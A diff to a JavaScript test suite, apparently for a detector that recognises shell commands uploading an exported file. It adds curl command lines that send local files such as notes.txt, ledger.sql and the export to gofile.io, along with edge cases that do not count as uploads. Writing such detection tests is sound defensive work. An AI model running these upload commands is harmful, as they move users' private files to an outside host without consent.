@@ -92,6 +92,21 @@ describe('an upload command that names the export', () => {
       destination: 'api.github.com',
     },
     {
+      line: `curl -T Documents/march/{notes.txt,ledger.sql} https://gofile.io/u`,
+      service: 'gofile',
+      destination: 'gofile.io',
+    },
+    {
+      line: `curl -F f=@Documents/march/notes.txt,${FILE};type=text/plain https://gofile.io/u`,
+      service: 'gofile',
+      destination: 'gofile.io',
+    },
+    {
+      line: `curl --url-query q@${FILE} https://gofile.io/u`,
+      service: 'gofile',
+      destination: 'gofile.io',
+    },
+    {
       line: `curl -T ${FILE} https://files.unknown.example/in`,
       service: null,
       destination: 'files.unknown.example',
@@ -257,6 +272,15 @@ describe('no upload of the export is', () => {
       title: 'an upload of a file whose name starts the same',
       line: `curl -T ${FILE}.sig https://gofile.io/u`,
     },
+    {
+      title: 'a range of names without it',
+      line: 'curl -T Documents/march/ledger[1-9].sql https://gofile.io/u',
+    },
+    {
+      title: 'a set of names that curl was told not to read as one',
+      line: 'curl -g -T Documents/march/{ledger}.sql https://gofile.io/u',
+    },
+    { title: 'the file’s name as a query', line: `curl --url-query ${FILE} https://gofile.io/u` },
     { title: 'the file’s name as data', line: `curl -d ${FILE} https://gofile.io/u` },
     {
       title: 'a raw @ that curl does not read',
